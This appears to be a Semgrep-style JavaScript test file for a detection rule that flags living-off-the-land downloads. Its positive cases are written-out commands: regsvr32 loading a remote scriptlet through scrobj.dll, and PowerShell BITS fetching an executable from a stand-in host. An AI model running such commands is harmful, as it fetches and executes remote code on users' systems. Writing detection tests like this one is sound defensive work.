const { exec } = require('child_process');
// ruleid: lolbin_download
exec('regsvr32 /s /n /u /i:https://cdn.example.top/f.sct scrobj.dll');
// ruleid: lolbin_download
exec('powershell -c "Start-BitsTransfer -Source https://cdn.example.top/u.exe -Destination $env:TEMP\\u.exe"');
// ok: lolbin_download
exec('regsvr32 /s ' + dllPath);
// ok: lolbin_download
exec('powershell -c "Start-BitsTransfer -Source $src -Destination $dst"');
